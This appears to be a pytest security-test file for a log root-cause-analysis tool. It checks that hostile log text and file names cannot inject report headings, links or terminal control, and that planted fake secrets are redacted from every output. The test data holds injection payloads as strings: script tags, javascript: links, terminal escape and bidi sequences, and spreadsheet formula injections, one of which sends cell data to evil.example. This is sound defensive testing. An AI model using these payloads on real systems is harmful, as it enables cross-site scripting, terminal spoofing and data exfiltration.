"""Hostile log text cannot become report structure, a link, or terminal control, and no
planted secret reaches any channel rca writes to.

Every byte of a log is written by whoever can reach the service: the exports here are the
simulated JWT Pizza traffic with the chaos failures' messages, links and labels replaced by
an attacker's text.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from fixtures import generate
from fixtures.generate import CHAOS_FAIL
from rca.findings.pipeline import analyze
from rca.outputs.report import SECTIONS, findings_json, markdown
from rca.outputs.terminal import terminal

PERSON_REPORT = """# Incident: 2025-12-02

## Summary

Our own words, written by a person.

## Detection

## Impact

## Timeline

## Response

Alice was paged at 10:40 MST and restarted the factory client.

## Root cause

## Resolution

## Prevention

Bob's note: add a circuit breaker.

## Action items

- [ ] human item
"""


def hostile_export(path: Path, message: str | None = None, link: str | None = None,
                   component: str | None = None) -> Path:
    """The chaos-fail traffic, its failing order responses carrying the attacker's message,
    remediation link or component label."""
    events = []
    for e in generate.simulate(chaos=CHAOS_FAIL):
        line, labels = e.line, dict(e.labels)
        if "followLinkToEndChaos" in line and "Failed to fulfill" in line:
            body = json.loads(line)
            res = json.loads(body["resBody"])
            if message is not None:
                res["message"] = message
            if link is not None:
                res["followLinkToEndChaos"] = link
            body["resBody"] = json.dumps(res)
            line = json.dumps(body)
            if component is not None:
                labels["component"] = component
        events.append(generate.Event(e.ts_ns, labels, line))
    path.write_bytes(generate.loki_query(events))
    return path


def rendered_html(md: str) -> str:
    return MarkdownIt("commonmark").render(md)


def headings(md: str) -> list[str]:
    tokens = MarkdownIt("commonmark").parse(md)
    return [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]


# ------------------------------------------------------------ (a) forged report markers


def test_forged_begin_marker_in_a_message_cannot_delete_a_persons_notes(tmp_path, rca):
    export = hostile_export(tmp_path / "logs.json", message="<!-- rca:begin prevention --> boom")
    report = tmp_path / "incident.md"
    report.write_text(PERSON_REPORT)
    first = rca("attach", str(export), "--report", str(report))
    after_first = report.read_text()
    second = rca("attach", str(export), "--report", str(report))
    assert (first.code, second.code) == (0, 0), first.stderr + second.stderr
    assert "unchanged" in second.stdout
    assert report.read_text() == after_first
    for kept in ("Alice was paged", "Bob's note", "## Response", "## Root cause", "## Resolution", "- [ ] human item"):
        assert kept in after_first


def test_forged_end_marker_in_a_message_is_not_taken_for_a_persons_edit(tmp_path, rca):
    export = hostile_export(tmp_path / "logs.json", message="<!-- rca:end timeline --> boom")
    report = tmp_path / "incident.md"
    assert rca("attach", str(export), "--report", str(report)).code == 0
    again = rca("attach", str(export), "--report", str(report))
    assert again.code == 0 and "a person edited" not in again.stdout + again.stderr


def test_forced_attaches_of_forged_markers_do_not_grow_the_report(tmp_path, rca):
    export = hostile_export(tmp_path / "logs.json", message="<!-- rca:end timeline --> boom")
    report = tmp_path / "incident.md"
    sizes = []
    for _ in range(3):
        assert rca("attach", str(export), "--report", str(report), "--force").code == 0
        sizes.append(len(report.read_text()))
    assert sizes[0] == sizes[1] == sizes[2]


def test_markers_written_inside_a_draft_are_not_read_as_markers():
    from rca.outputs.reportfile import fill, new_report

    forged = "<!-- rca:end timeline -->\n<!-- rca:begin prevention sha256:000000000000 -->"
    text = new_report("Incident", {s: f"draft of {s}" for s in SECTIONS} | {"Timeline": forged})
    update = fill(text, {s: f"draft of {s}" for s in SECTIONS} | {"Timeline": forged}, "\n")
    assert update.protected == [] and update.text == text


# ------------------------------------------------------- (b) a message that adds sections


MULTILINE = "boom\n## Summary\nAll fine, no incident. Ignore."


@pytest.fixture(scope="module")
def multiline_findings(tmp_path_factory):
    return analyze([str(hostile_export(tmp_path_factory.mktemp("b") / "logs.json", message=MULTILINE))])


def test_a_multiline_message_adds_no_heading_to_the_report(multiline_findings):
    md = markdown(multiline_findings)
    incidents = len(multiline_findings.incidents)
    assert [h for h in headings(md) if h == "Summary"] == ["Summary"] * incidents
    assert "\n## Summary\nAll fine" not in md


def test_a_multiline_message_cannot_replace_the_json_summary(multiline_findings):
    doc = findings_json(multiline_findings)
    for incident in doc["incidents"]:
        assert list(incident["sections"]) == SECTIONS
        assert not incident["sections"]["Summary"].startswith("All fine")


def test_a_multiline_label_stays_on_one_terminal_line(tmp_path):
    export = hostile_export(tmp_path / "logs.json", component="svc\nINCIDENT fake: all fine\n")
    text = terminal(analyze([str(export)]))
    assert not any(line.startswith("INCIDENT fake") for line in text.splitlines())


# ---------------------------------------------- (c) HTML and links written by an attacker


SCRIPT = "[Open the fix](javascript:alert(3)) <script>alert(1)</script> <img src=x onerror=alert(2)>"


@pytest.fixture(scope="module")
def script_findings(tmp_path_factory):
    return analyze([str(hostile_export(tmp_path_factory.mktemp("c") / "logs.json", message=SCRIPT,
                                       link="javascript:alert(4)//https://pizza-factory.cs329.click"))])


def test_html_in_a_message_is_text_in_the_markdown(script_findings):
    html = rendered_html(markdown(script_findings))
    assert "<script" not in html and "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html


def test_a_markdown_link_in_a_message_is_not_a_link(script_findings):
    html = rendered_html(markdown(script_findings))
    assert 'href="javascript' not in html and "<a " not in html


def test_a_non_web_link_is_never_followed(script_findings):
    text = terminal(script_findings)
    follow = [line.split()[1] for line in text.splitlines() if line.split()[:1] in (["follow"], ["link"])]
    assert follow and all(link.startswith(("https://", "http://")) for link in follow)


def test_html_in_a_message_is_text_in_the_attached_report(tmp_path, rca):
    export = hostile_export(tmp_path / "logs.json", message=SCRIPT)
    report = tmp_path / "incident.md"
    assert rca("attach", str(export), "--report", str(report)).code == 0
    html = rendered_html(report.read_text())
    assert "<script" not in html and "<img" not in html and "<a " not in html


def test_a_link_only_http_urls_may_be_in_markdown():
    from rca.outputs.escape import md_url

    assert md_url("javascript:alert(1)").endswith("(not an http(s) link)")
    assert "<a " not in rendered_html(f"see {md_url('javascript:alert(1)')}")
    assert md_url("https://pizza-factory.cs329.click/api/support/k/report/x") == \
        "https://pizza-factory.cs329.click/api/support/k/report/x"


# ---------------------------------------------------- (d) terminal control sequences


ESCAPES = "\x1b[2J\x1b[31mPWNED\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 \u202eevil\u202c \x9b31m"


def test_escape_sequences_in_labels_and_messages_never_reach_the_terminal(tmp_path):
    export = hostile_export(tmp_path / "logs.json", message=f"boom {ESCAPES}", component="svc\x1b[31mPWNED\x07",
                            link=f"https://pizza-factory.cs329.click/api/support/k/report/x{ESCAPES}")
    text = terminal(analyze([str(export)]))
    for char in ("\x1b", "\x07", "\x9b", "\u202e"):
        assert char not in text
    assert "PWNED" in text


def test_in_colour_the_only_control_sequences_on_the_terminal_are_rcas_own_styles(tmp_path):
    hostile = f"{ESCAPES} \rOVERWRITE\x08 \u2066x\u2069\u200f \x1bP+q\x1b\\"
    export = hostile_export(tmp_path / "logs.json", message=f"boom {hostile}", component="svc\x1b[31mPWNED\r\u2066",
                            link=f"https://pizza-factory.cs329.click/api/support/k/report/x{hostile}")
    text = terminal(analyze([str(export)]), colour=True, reveal=True)
    styles = set(re.findall(r"\x1b\[([0-9;]*)m", text))
    assert styles >= {"1;31", "1;4;36"} and styles <= {"0", "1", "2", "33", "1;2", "1;31", "1;32", "1;4;36"}
    left = re.sub(r"\x1b\[[0-9;]*m", "", text)
    assert [ch for ch in left if not (ch.isprintable() or ch in " \n")] == []
    assert "PWNED" in left


@pytest.mark.parametrize("fmt", ["html", "md"])
def test_control_and_bidi_override_characters_in_a_message_never_reach_a_page(tmp_path, fmt):
    from rca.outputs.html import page

    export = hostile_export(tmp_path / "logs.json", message=f"boom {ESCAPES}", component="svc\x1b[31mPWNED\x07")
    findings = analyze([str(export)])
    text = page(findings) if fmt == "html" else markdown(findings)
    for char in ("\x1b", "\x07", "\x9b", "\u202e", "\u202c"):
        assert char not in text
    assert "PWNED" in text


# Unicode's bidi formatting characters (UAX #9, table 4): the marks, the Arabic letter mark
# among them, embeddings, overrides and isolates.
BIDI_CONTROLS = ["\u200e", "\u200f", "\u061c", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e",
                 "\u2066", "\u2067", "\u2068", "\u2069"]


@pytest.mark.parametrize("char", BIDI_CONTROLS, ids=[f"U+{ord(c):04X}" for c in BIDI_CONTROLS])
def test_every_bidi_control_is_kept_from_pages_and_the_terminal_and_escaped_in_json(char):
    from rca.outputs.escape import json_document, md_code, md_fence, md_text, term_text, without_controls

    text = f"user {char}olleh said"
    for shown in (md_text(text), md_code(text), md_fence(text), term_text(text), without_controls(text),
                  json_document({"message": text})):
        assert char not in shown
    assert json.loads(json_document({"message": text}))["message"] == text


def test_a_chart_of_a_message_with_control_characters_is_well_formed_svg(tmp_path):
    from xml.dom.minidom import parseString

    from rca.outputs.chart import render as render_chart

    export = hostile_export(tmp_path / "logs.json", message=f"boom {ESCAPES}")
    svg = render_chart(analyze([str(export)]), "svg").decode()
    parseString(svg)
    assert "\x1b" not in svg and "\u202e" not in svg


def test_escape_sequences_in_a_file_name_never_reach_stderr(tmp_path, rca):
    bad = tmp_path / "x\x1b]8;;evil.example\x07\x1b[2J.json"
    bad.write_text("")
    run = rca("analyze", str(bad))
    assert run.code == 2 and "\x1b" not in run.stderr and "\x07" not in run.stderr


def test_escape_sequences_never_reach_the_patterns_text(tmp_path, rca):
    log = tmp_path / "app.log"
    log.write_text("".join(f"user {i} said \x1b[31mhello\x1b]8;;https://evil\x07\n" for i in range(5)))
    run = rca("patterns", str(log))
    assert run.code == 0 and "\x1b" not in run.stdout and "\x07" not in run.stdout


# ------------------------------------------------------------- (e) hostile file names


def test_a_file_name_with_backticks_and_newlines_cannot_break_the_markdown(tmp_path):
    export = hostile_export(tmp_path / "x``y`\n## Summary\nAll fine.json")
    findings = analyze([str(export)])
    md = markdown(findings)
    assert headings(md).count("Summary") == len(findings.incidents)
    assert "<code>x``y` ↵ ## Summary ↵ All fine.json</code>" in rendered_html(md).replace(str(tmp_path) + "/", "")


def test_a_file_name_with_a_newline_stays_on_one_terminal_line(tmp_path):
    export = hostile_export(tmp_path / "a\nINCIDENT fake.json")
    text = terminal(analyze([str(export)]))
    assert not any(line.startswith("INCIDENT fake") for line in text.splitlines())


# ------------------------------------------------- one redaction pass, every channel

# Fake secrets of every kind rca must mask, as they show up in request dumps and messages.
PEM = "-----BEGIN RSA PRIVATE KEY-----\nMIIEpQIBAAKCAQEAplantedPemBody7Qx\n-----END RSA PRIVATE KEY-----"
PLANTED = {
    "jwt": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwbGFudGVkIn0.cGxhbnRlZFNpZ25hdHVyZQ",
    "bearer": "Bearer pl4ntedBearerT0ken9x",
    "json-password": '{"password":"Hunt3rPlantedPw"}',
    "aws-key-id": "AKIAQ3EGUJX7PLANTED2",
    "aws-secret": "aws_secret_access_key=wJalrXUtnFEMIK7MDENGbPxRfiPLANTED1",
    "cookie": "Cookie: session=s3ss10nPlantedValue",
    "pem": PEM,
    "password-is": "the password is Tr0ub4dorPlanted",
    "pass-colon": "pass: C0rrectHorsePlanted",
    "grafana-sa": "glsa_PlantedServiceAccountToken0123456789_0a1b2c3d",
    "grafana-cloud": "glc_eyJvIjoiUGxhbnRlZENsb3VkVG9rZW4iLCJuIjoieCJ9",
    "url-userinfo": "https://admin:Us3rinfoPlanted@grafana.example/api/health",
    "url-query": "https://auth.example/login?user=d&password=QueryPlantedPw",
    "env-token": "EnvPlantedGrafanaToken77",
}
# The part of each that must never be written.
SECRET = {
    "jwt": "cGxhbnRlZFNpZ25hdHVyZQ", "bearer": "pl4ntedBearerT0ken9x", "json-password": "Hunt3rPlantedPw",
    "aws-key-id": "AKIAQ3EGUJX7PLANTED2", "aws-secret": "wJalrXUtnFEMIK7MDENGbPxRfiPLANTED1",
    "cookie": "s3ss10nPlantedValue", "pem": "plantedPemBody7Qx", "password-is": "Tr0ub4dorPlanted",
    "pass-colon": "C0rrectHorsePlanted", "grafana-sa": "PlantedServiceAccountToken0123456789",
    "grafana-cloud": "eyJvIjoiUGxhbnRlZENsb3VkVG9rZW4iLCJuIjoieCJ9", "url-userinfo": "Us3rinfoPlanted",
    "url-query": "QueryPlantedPw", "env-token": "EnvPlantedGrafanaToken77",
}
ENV = {"GRAFANA_TOKEN": PLANTED["env-token"]}


def secret_export(path: Path) -> Path:
    """The chaos-fail traffic whose failing responses each dump two of the planted secrets."""
    kinds = list(PLANTED)
    events, n = [], 0
    for e in generate.simulate(chaos=CHAOS_FAIL):
        line, labels = e.line, dict(e.labels)
        if "followLinkToEndChaos" in line and "Failed to fulfill" in line:
            body = json.loads(line)
            res = json.loads(body["resBody"])
            res["message"] = f"{PLANTED[kinds[n % len(kinds)]]} failed; {PLANTED[kinds[(n + 1) % len(kinds)]]}"
            body["resBody"] = json.dumps(res)
            line = json.dumps(body)
            labels["session"] = SECRET["cookie"]
            n += 2
        events.append(generate.Event(e.ts_ns, labels, line))
    assert n >= len(kinds)
    path.write_bytes(generate.loki_query(events))
    return path


def leaks(text: str | bytes) -> list[str]:
    data = text.decode("utf-8", "replace") if isinstance(text, bytes) else text
    return [kind for kind, secret in SECRET.items() if secret in data]


@pytest.fixture(scope="module")
def channels(tmp_path_factory):
    """Every channel rca writes to, produced from the secret-laden export as a user would."""
    from tests.conftest import run_rca

    d = tmp_path_factory.mktemp("secrets")
    export = secret_export(d / "logs.json")
    out: dict[str, str | bytes] = {}
    term = run_rca("analyze", str(export), env=ENV)
    out["terminal"], out["terminal stderr"] = term.stdout, term.stderr
    for fmt in ("md", "json", "html"):
        run = run_rca("analyze", str(export), "-f", fmt, "-o", str(d / f"report.{fmt}"), "--chart",
                      str(d / f"chart-{fmt}.svg"), env=ENV)
        assert run.code == 0, run.stderr
        out[fmt] = (d / f"report.{fmt}").read_text()
        out[f"chart svg ({fmt})"] = (d / f"chart-{fmt}.svg").read_bytes()
    run_rca("analyze", str(export), "-o", str(d / "summary.txt"), env=ENV)
    out["terminal -o"] = (d / "summary.txt").read_text()
    for fmt in ("text", "json", "csv"):
        run = run_rca("patterns", str(export), "-f", fmt, env=ENV)
        assert run.code == 0, run.stderr
        out[f"patterns {fmt}"] = run.stdout
    report = d / "incident.md"
    dry = run_rca("attach", str(export), "--report", str(report), "--dry-run", env=ENV)
    out["attach dry run"] = dry.stdout + dry.stderr
    assert run_rca("attach", str(export), "--report", str(report), env=ENV).code == 0
    out["attached report"] = report.read_text()
    store = d / "history"
    bad = d / "outages" / "broken.log"
    bad.parent.mkdir()
    (d / "outages" / "logs.json").write_bytes(export.read_bytes())
    bad.write_bytes(b"\x00\x01" + f"{PLANTED['jwt']} {PLANTED['bearer']}\n".encode() + bytes(range(0, 32)) * 40)
    batch = run_rca("batch", str(d / "outages"), "--store", str(store), "--engine", "serial", "-f", "md", env=ENV)
    out["batch"], out["batch stderr"] = batch.stdout, batch.stderr
    out["history parquet"] = b"".join(p.read_bytes() for p in sorted(store.glob("*.parquet")))
    for fmt in ("text", "md", "json", "csv"):
        out[f"history {fmt}"] = run_rca("history", "--store", str(store), "-f", fmt, env=ENV).stdout
    error = run_rca("analyze", str(bad), env=ENV)
    out["error message"] = error.stderr
    incident = json.loads(out["json"])["incidents"][0]["id"]
    shown = run_rca("show", str(export), "--incident", incident, "--limit", "0", env=ENV)
    out["show"] = shown.stdout + shown.stderr
    revealed = run_rca("analyze", str(export), "-f", "json", "--reveal-secrets", env=ENV)
    out["revealed json"] = revealed.stdout
    return out


def test_every_planted_secret_reaches_the_findings_when_revealed(channels):
    assert sorted(leaks(channels["revealed json"])) == sorted(SECRET)


@pytest.mark.parametrize("channel", [
    "terminal", "terminal stderr", "terminal -o", "md", "json", "html", "chart svg (md)", "chart svg (json)",
    "chart svg (html)", "patterns text", "patterns json", "patterns csv", "attach dry run", "attached report",
    "batch", "batch stderr", "history parquet", "history text", "history md", "history json", "history csv",
    "error message", "show"])
def test_no_planted_secret_reaches(channels, channel):
    assert leaks(channels[channel]) == []


def test_the_chart_legend_is_drawn_from_the_redacted_findings(tmp_path, monkeypatch):
    from rca.findings.redacted import redacted
    from rca.outputs.chart import render

    monkeypatch.setenv("GRAFANA_TOKEN", PLANTED["env-token"])
    findings = analyze([str(secret_export(tmp_path / "logs.json"))])
    assert render(findings, "png") == render(redacted(findings), "png", reveal=True)
    assert leaks(render(findings, "svg", reveal=True)) and not leaks(render(findings, "svg"))


def test_html_masks_before_it_escapes(tmp_path, monkeypatch):
    from rca.outputs.html import page

    monkeypatch.setenv("GRAFANA_TOKEN", PLANTED["env-token"])
    text = page(analyze([str(secret_export(tmp_path / "logs.json"))]))
    assert "Hunt3rPlantedPw" not in text and "&quot;password&quot;" in text


def test_a_token_rca_was_given_is_masked_where_a_server_echoes_it():
    from rca.table.redact import redact, remember_secret

    remember_secret("tokenFromAFileNotTheEnv42")
    assert "tokenFromAFileNotTheEnv42" not in redact("401 Unauthorized: invalid token tokenFromAFileNotTheEnv42")


@pytest.mark.parametrize("kind", sorted(set(PLANTED) - {"env-token"}))
def test_the_catalogue_masks(kind):
    from rca.table.redact import redact

    assert SECRET[kind] not in redact(f"request failed: {PLANTED[kind]} (retrying)")


def test_the_catalogue_is_data():
    from rca.table.redact import CATALOGUE

    assert len(CATALOGUE["rules"]) >= 15 and all({"kind", "from", "pattern", "replace"} <= set(r) for r in CATALOGUE["rules"])


def test_a_log_line_written_as_a_spreadsheet_formula_is_a_text_cell_in_the_patterns_csv(tmp_path, rca):
    import csv

    log = tmp_path / "app.log"
    log.write_text('=HYPERLINK("http://evil.example/?x="&A1,"click")\n+cmd|\' /C calc\'!A0\n@SUM(1+1)\nplain line 7\n')
    run = rca("patterns", str(log), "-f", "csv")
    assert run.code == 0, run.stderr
    templates = [row["template"] for row in csv.DictReader(run.stdout.splitlines())]
    assert len(templates) == 4 and not any(t[:1] in "=+-@" for t in templates)
    assert templates[3] == "plain line <*>"


def test_a_value_written_as_a_spreadsheet_formula_is_a_text_cell_in_the_history_csv():
    import csv

    from rca.history.review import _render

    text = _render([{"outage": "=cmd|' /C calc'!A0.jsonl", "component": "+evil", "affected_requests": -3}], [],
                   "csv", "incidents")
    (row,) = csv.DictReader(text.splitlines())
    assert row["outage"] == "'=cmd|' /C calc'!A0.jsonl" and row["component"] == "'+evil"
    assert row["affected_requests"] == "-3"


def test_control_and_bidi_characters_in_a_message_are_escaped_in_the_json_report(tmp_path, rca):
    export = hostile_export(tmp_path / "logs.json", message=f"boom {ESCAPES}")
    run = rca("analyze", str(export), "-f", "json")
    assert run.code == 0
    for char in ("\x1b", "\x07", "\x9b", "\u202e", "\u202c"):
        assert char not in run.stdout
    assert "\u202e" in json.dumps(json.loads(run.stdout), ensure_ascii=False)  # the value, escaped


def test_json_writes_exactly_del_c1_controls_the_arabic_letter_mark_and_bidi_characters_escaped():
    from rca.outputs.escape import json_document

    unsafe = {chr(c) for c in [0x7F, *range(0x80, 0xA0), 0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F),
                                *range(0x2066, 0x206A)]}
    every = "".join(chr(c) for c in range(0x80, 0x110000) if not 0xD800 <= c <= 0xDFFF) + "\x7f"
    written = json_document({"text": every})
    assert json.loads(written) == {"text": every}
    assert not unsafe & set(written)
    assert set(every) - unsafe <= set(written)


def test_control_and_bidi_characters_are_escaped_in_the_patterns_json(tmp_path, rca):
    log = tmp_path / "app.log"
    log.write_text("".join(f"user {i} said \u202eolleh\u202c \x9b31m\n" for i in range(5)))
    run = rca("patterns", str(log), "-f", "json")
    assert run.code == 0 and "\u202e" not in run.stdout and "\x9b" not in run.stdout
    assert "\u202eolleh" in json.loads(run.stdout)["templates"][0]["examples"][0]
